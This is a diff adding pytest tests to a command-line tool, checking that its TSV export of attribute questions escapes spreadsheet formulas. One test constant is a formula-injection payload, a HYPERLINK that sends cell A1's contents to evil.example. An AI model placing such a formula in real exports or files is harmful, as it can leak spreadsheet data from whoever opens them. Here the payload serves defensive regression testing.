@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 
@@ -128,3 +130,50 @@ def test_attributes_whose_codes_are_written_as_text_are_the_same_catalogue(
         proxy.stop()
     assert result.exit_code == 0, result.output
     assert {a["qualification_code"] for a in json.loads(result.stdout)} == _all_codes(api)
+
+
+# A question a catalogue could carry (its texts are written by others): a spreadsheet opening
+# the export would run it.
+FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?q="&A1,"What is your gender?")'
+
+
+def _tsv_of_a_formula_question(project, sandbox, run_cli, *options: str) -> dict[str, str]:
+    """The tsv row of attribute 211 as `attributes` writes it when the catalogue gives its
+    question as FORMULA_QUESTION."""
+    from ..reconcile.conftest import point_project_at
+    from ..reconcile.proxies import Proxy
+
+    class FormulaQuestion(Proxy):
+        def reshape(self, request, answer, headers) -> bytes:
+            if not request.path.endswith("/attributes") or not answer.ok:
+                return answer.content
+            items = answer.json()
+            for item in items:
+                if item["qualification_code"] == 211:
+                    for localization in item["localizations"]:
+                        localization["text"] = FORMULA_QUESTION
+            return json.dumps(items).encode()
+
+    proxy = FormulaQuestion(sandbox.url)
+    point_project_at(project, proxy.url)
+    try:
+        result = run_cli(
+            "attributes", "--search", "gender", "--format", "tsv", "--refresh", *options
+        )
+    finally:
+        proxy.stop()
+    assert result.exit_code == 0, result.output
+    rows = csv.DictReader(io.StringIO(result.stdout), dialect="excel-tab")
+    return {row["code"]: row for row in rows}["211"]
+
+
+def test_a_tsv_question_a_spreadsheet_would_run_as_a_formula_is_written_inert(
+    project, sandbox, run_cli
+):
+    row = _tsv_of_a_formula_question(project, sandbox, run_cli)
+    assert row["question"] == "'" + FORMULA_QUESTION
+
+
+def test_a_tsv_question_is_written_as_the_service_gave_it_with_raw_cells(project, sandbox, run_cli):
+    row = _tsv_of_a_formula_question(project, sandbox, run_cli, "--raw-cells")
+    assert row["question"] == FORMULA_QUESTION
